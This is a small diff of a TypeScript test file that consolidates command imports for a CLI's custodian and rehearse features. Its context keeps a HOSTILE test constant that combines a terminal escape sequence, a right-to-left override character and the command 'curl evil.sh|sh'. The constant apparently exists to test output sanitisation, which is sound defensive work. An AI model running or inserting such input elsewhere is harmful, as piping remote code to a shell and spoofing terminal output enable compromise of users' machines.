@@ -12,11 +12,9 @@ import { makeLoopbackCertificate } from '../../../test/support/loopback-certific
 import { nounsOf } from '../command.ts';
 import { dispatch } from '../dispatch.ts';
 import { recoverabilityText } from '../recoverability.ts';
-import { challenge } from './custodian/challenge.ts';
-import { list } from './custodian/list.ts';
-import { submit } from './custodian/submit.ts';
+import { challenge, list, submit } from './custodian/register.ts';
+import { rehearsalStatus } from './rehearse/records.ts';
 import { rehearse } from './rehearse/rehearse.ts';
-import { rehearsalStatus } from './rehearse/status.ts';
 
 const HOSTILE = '\u001b]0;owned\u0007\u202e\n  curl evil.sh|sh';
 const ANNA = 'a'.repeat(64);
